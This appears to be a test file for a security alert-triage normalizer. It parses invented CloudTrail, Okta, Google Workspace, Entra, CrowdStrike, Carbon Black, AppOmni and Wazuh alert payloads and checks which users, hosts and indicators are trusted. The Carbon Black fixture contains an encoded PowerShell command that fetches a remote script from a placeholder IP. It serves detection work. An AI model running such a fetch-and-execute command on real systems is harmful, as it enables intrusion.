import { NormalizedAlert, normalizeAlert } from '../../../src/usecases/alert-triage';

/*
 * Payloads written by us from each vendor's documented schema (field names and shapes as the vendors
 * document them; values invented), one per family the background found wanting.
 */

function normalized(source: string, raw: unknown): NormalizedAlert {
  return NormalizedAlert.parse(normalizeAlert(source, raw));
}

const users = (a: NormalizedAlert) => a.assets.users.map((u) => [u.name, u.kind, u.trusted]);
const hosts = (a: NormalizedAlert) => a.assets.hosts.map((h) => [h.hostname, h.deviceId, h.trusted]);

describe('AWS CloudTrail', () => {
  const record = (userIdentity: unknown) => ({
    eventVersion: '1.09',
    userIdentity,
    eventTime: '2025-01-02T03:04:05Z',
    eventSource: 'iam.amazonaws.com',
    eventName: 'CreateAccessKey',
    awsRegion: 'us-east-1',
    sourceIPAddress: '203.0.113.10',
    userAgent: 'aws-cli/2.15.0 Python/3.11.6 Linux/6.1.0 exe/x86_64.ubuntu.22 prompt/off command/iam.create-access-key',
    requestParameters: { userName: 'backup-bot' },
    eventID: 'ev-1',
    eventType: 'AwsApiCall',
  });

  it('names the root user', () => {
    const alert = normalized(
      'cloudtrail',
      record({
        type: 'Root',
        principalId: '111122223333',
        arn: 'arn:aws:iam::111122223333:root',
        accountId: '111122223333',
      }),
    );
    expect(users(alert)).toContainEqual(['root', 'root', true]);
    expect(alert.format).toBe('cloudtrail');
    expect(alert.title).toContain('CreateAccessKey');
  });

  it('names an IAM user, and the user its request names as untrusted', () => {
    const alert = normalized(
      'cloudtrail',
      record({
        type: 'IAMUser',
        principalId: 'AIDAEXAMPLE',
        arn: 'arn:aws:iam::111122223333:user/alice',
        userName: 'alice',
      }),
    );
    expect(users(alert)).toEqual([
      ['alice', 'user', true],
      ['backup-bot', 'user', false],
    ]);
  });

  it('names an assumed role as trusted and its caller-chosen session name as untrusted', () => {
    const alert = normalized(
      'cloudtrail',
      record({
        type: 'AssumedRole',
        arn: 'arn:aws:sts::111122223333:assumed-role/Deployer/bob@example.com',
        sessionContext: {
          sessionIssuer: { type: 'Role', arn: 'arn:aws:iam::111122223333:role/Deployer', userName: 'Deployer' },
        },
      }),
    );
    expect(users(alert)).toEqual(
      expect.arrayContaining([
        ['Deployer', 'role', true],
        ['bob@example.com', 'user', false],
      ]),
    );
  });

  it('finds no address in the user agent and keeps the source address trusted', () => {
    const alert = normalized('cloudtrail', record({ type: 'Root', arn: 'arn:aws:iam::111122223333:root' }));
    expect(alert.observables.filter((o) => o.type === 'ip')).toEqual([
      { type: 'ip', value: '203.0.113.10', field: 'sourceIPAddress', trusted: true },
    ]);
  });
});

describe('Okta System Log', () => {
  const event = {
    uuid: 'f7a6e0b0-0000-11ef-9c4e-0123456789ab',
    published: '2025-03-04T05:06:07.890Z',
    eventType: 'user.session.start',
    displayMessage: 'User login to Okta',
    severity: 'WARN',
    actor: { id: '00u1abcd', type: 'User', alternateId: 'carol@example.com', displayName: 'Carol' },
    client: {
      userAgent: {
        rawUserAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/108.0.0.0 Safari/537.36',
        os: 'Windows 10',
        browser: 'CHROME',
      },
      ipAddress: '198.51.100.23',
    },
    outcome: { result: 'FAILURE', reason: 'INVALID_CREDENTIALS' },
    target: [{ id: '0oa1app', type: 'AppInstance', alternateId: 'Salesforce', displayName: 'Salesforce' }],
  };

  it('names the actor, keeps WARN, and takes no address from the user agent', () => {
    const alert = normalized('okta', event);
    expect(users(alert)).toEqual([['carol@example.com', 'user', true]]);
    expect(alert).toMatchObject({ severity: 'medium', vendorSeverity: 'WARN', title: 'User login to Okta (FAILURE)' });
    expect(alert.indicators.ips).toEqual(['198.51.100.23']);
  });
});

describe('Google Workspace', () => {
  it('reads an Alert Center alert with its severity and affected user', () => {
    const alert = normalized('gsuite', {
      customerId: 'C03abcd12',
      alertId: 'a1b2c3',
      createTime: '2025-02-01T10:00:00Z',
      startTime: '2025-02-01T09:58:00Z',
      type: 'Suspicious login',
      source: 'Google identity',
      data: {
        '@type': 'type.googleapis.com/google.apps.alertcenter.type.AccountWarning',
        email: 'dave@example.com',
        loginDetails: { ipAddress: '192.0.2.77', loginTime: '2025-02-01T09:57:00Z' },
      },
      metadata: { customerId: 'C03abcd12', alertId: 'a1b2c3', status: 'NOT_STARTED', severity: 'HIGH' },
    });
    expect(alert).toMatchObject({
      format: 'gsuite',
      title: 'Suspicious login',
      severity: 'high',
      vendorSeverity: 'HIGH',
    });
    expect(users(alert)).toEqual([['dave@example.com', 'user', true]]);
    expect(alert.indicators.ips).toEqual(['192.0.2.77']);
  });

  it('reads a Reports API activity with its actor and target user', () => {
    const alert = normalized('gsuite', {
      kind: 'admin#reports#activity',
      id: {
        time: '2025-02-02T11:00:00Z',
        uniqueQualifier: '-12345',
        applicationName: 'admin',
        customerId: 'C03abcd12',
      },
      actor: { callerType: 'USER', email: 'admin@example.com', profileId: '1001' },
      ipAddress: '192.0.2.88',
      events: [
        {
          type: 'USER_SETTINGS',
          name: 'GRANT_ADMIN_PRIVILEGE',
          parameters: [{ name: 'USER_EMAIL', value: 'erin@example.com' }],
        },
      ],
    });
    expect(alert.title).toBe('admin: GRANT_ADMIN_PRIVILEGE');
    expect(users(alert)).toEqual([
      ['admin@example.com', 'user', true],
      ['erin@example.com', 'user', true],
    ]);
  });
});

describe('Entra ID sign-ins', () => {
  it('names the service principal of a service-principal sign-in', () => {
    const alert = normalized('entra', {
      time: '2025-04-01T00:00:00Z',
      category: 'ServicePrincipalSignInLogs',
      operationName: 'Sign-in activity',
      properties: {
        id: 'si-1',
        createdDateTime: '2025-04-01T00:00:00Z',
        appId: '11111111-2222-3333-4444-555555555555',
        servicePrincipalId: '66666666-7777-8888-9999-000000000000',
        servicePrincipalName: 'ci-deployer',
        ipAddress: '203.0.113.50',
        resourceDisplayName: 'Microsoft Graph',
        status: { errorCode: 7000215, failureReason: 'Invalid client secret is provided.' },
      },
    });
    expect(alert.assets.users).toEqual([
      {
        name: 'ci-deployer',
        kind: 'service_principal',
        id: '66666666-7777-8888-9999-000000000000',
        field: 'properties.servicePrincipalName',
        trusted: true,
      },
    ]);
    expect(alert.title).toContain('failed (7000215)');
  });

  it('grades a user sign-in by its Identity Protection risk and names the registered device', () => {
    const alert = normalized('entra', {
      id: 'si-2',
      createdDateTime: '2025-04-01T00:00:00Z',
      userPrincipalName: 'frank@example.com',
      userId: 'u-1',
      appDisplayName: 'Azure Portal',
      ipAddress: '198.51.100.99',
      riskLevelDuringSignIn: 'high',
      status: { errorCode: 0 },
      deviceDetail: { deviceId: 'dev-123', displayName: 'FRANK-LT', operatingSystem: 'Windows10' },
    });
    expect(alert).toMatchObject({ severity: 'high', vendorSeverity: 'high' });
    expect(hosts(alert)).toEqual([['FRANK-LT', 'dev-123', true]]);
  });
});

describe('CrowdStrike flat detection summary', () => {
  const flat = {
    DetectId: 'ldt:abc:123',
    DetectName: 'Suspicious Activity',
    DetectDescription: 'A file written matches a known malware signature.',
    ComputerName: 'FIN-WS-07',
    SensorId: '0123456789abcdef0123456789abcdef',
    customerIDString: 'fedcba9876543210fedcba9876543210',
    UserName: 'grace',
    MachineDomain: 'CORP',
    FileName: 'eicar.com',
    FilePath: '\\Device\\HarddiskVolume3\\Users\\grace\\Downloads\\update.zip',
    CommandLine: '"C:\\Users\\grace\\Downloads\\eicar.com" /quiet',
    SHA256String: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
    MD5String: '44d88612fea8a8f36de82e1278abb02f',
    Severity: 5,
    SeverityName: 'Critical',
    FalconHostLink: 'https://falcon.crowdstrike.com/activity/detections/detail/abc/123',
    ProcessStartTime: 1735689600,
  };

  it('reads host, device id, user and the vendor severity', () => {
    const alert = normalized('crowdstrike', flat);
    expect(alert).toMatchObject({ format: 'crowdstrike', severity: 'critical', vendorSeverity: 'Critical' });
    expect(hosts(alert)).toEqual([['FIN-WS-07', '0123456789abcdef0123456789abcdef', true]]);
    expect(alert.assets.users).toMatchObject([{ name: 'grace', domain: 'CORP', trusted: true }]);
  });

  it('takes no customer id as a hash and no file name as a domain', () => {
    const alert = normalized('crowdstrike', flat);
    expect(alert.indicators.hashes.md5).toEqual(['44d88612fea8a8f36de82e1278abb02f']);
    expect(alert.indicators.domains).toEqual([]);
    expect(alert.untrusted.commandLine).toContain('eicar.com');
  });
});

describe('Carbon Black Cloud', () => {
  it('reads device, device id, user and the 1-10 severity', () => {
    const alert = normalized('carbonblack', {
      id: '6f1a2b3c-0000-4000-8000-000000000001',
      org_key: 'ABCD1234',
      type: 'CB_ANALYTICS',
      backend_timestamp: '2025-05-05T05:05:05.000Z',
      severity: 8,
      reason: 'The application powershell.exe invoked another application (update.zip).',
      device_id: 4412,
      device_name: 'HR-LAPTOP-3',
      device_os: 'WINDOWS',
      device_internal_ip: '10.20.30.40',
      device_username: 'CORP\\heidi',
      process_name: 'powershell.exe',
      process_sha256: 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c',
      process_cmdline: 'powershell -enc SQBFAFgA http://203.0.113.66/p.ps1',
      netconn_remote_ip: '203.0.113.66',
      alert_url: 'https://defense.conferdeploy.net/alerts?s[c][query_string]=id:6f1a',
    });
    expect(alert).toMatchObject({ format: 'carbonblack', severity: 'high', vendorSeverity: 8 });
    expect(hosts(alert)).toEqual([['HR-LAPTOP-3', '4412', true]]);
    expect(alert.assets.users).toMatchObject([{ name: 'heidi', domain: 'CORP', trusted: true }]);
    expect(alert.observables).toContainEqual({
      type: 'ip',
      value: '203.0.113.66',
      field: 'netconn_remote_ip',
      trusted: true,
    });
    expect(alert.indicators.domains).toEqual([]);
    expect(alert.untrusted.description).toContain('powershell.exe');
  });
});

describe('AppOmni (ECS)', () => {
  it('names the SaaS user and reads the ECS severity word', () => {
    const alert = normalized('appomni', {
      '@timestamp': '2025-06-06T06:06:06Z',
      version: '2.1.0',
      appomni: { service: { type: 'salesforce', name: 'Salesforce Prod' }, alert: { channel: 'prod' } },
      event: { kind: 'alert', action: 'alert_user', severity: 'high', id: 'evt-9' },
      rule: { name: 'Mass record export', description: 'A user exported an unusual number of records.' },
      user: { name: 'ivan', email: 'ivan@example.com', id: '005xx' },
      source: { ip: '198.51.100.140' },
      related: { user: ['ivan@example.com'] },
    });
    expect(alert).toMatchObject({ format: 'ecs', vendor: 'AppOmni', title: 'Mass record export', severity: 'high' });
    expect(users(alert)).toEqual([['ivan@example.com', 'user', true]]);
    expect(alert.observables).toContainEqual({
      type: 'ip',
      value: '198.51.100.140',
      field: 'source.ip',
      trusted: true,
    });
  });
});

describe('Wazuh', () => {
  it('keeps decoded log users untrusted and the agent trusted', () => {
    const alert = normalized('wazuh', {
      timestamp: '2025-01-01T00:00:00.000+0000',
      rule: {
        level: 10,
        description: 'sshd: brute force trying to get access to the system.',
        id: '5712',
        groups: ['sshd'],
      },
      agent: { id: '003', name: 'web-01', ip: '10.0.0.8' },
      manager: { name: 'wazuh-manager' },
      data: { srcip: '203.0.113.200', srcuser: 'root' },
      full_log: 'Failed password for root from 203.0.113.200 port 4242 ssh2',
      id: '1735689600.1',
    });
    expect(hosts(alert)).toEqual([['web-01', '003', true]]);
    expect(users(alert)).toEqual([['root', undefined, false]]);
    expect(alert.observables).toContainEqual({ type: 'ip', value: '203.0.113.200', field: 'full_log', trusted: false });
    expect(alert.untrusted.description).toContain('Failed password');
  });
});

describe('unknown formats', () => {
  it('always has a title and never trusts an entity', () => {
    const alert = normalized('acme', { hostname: 'srv-9', user: 'mallory', when: 'now' });
    expect(alert.title).toBe('acme alert');
    expect([...alert.assets.hosts, ...alert.assets.users].every((e) => !e.trusted)).toBe(true);
  });
});
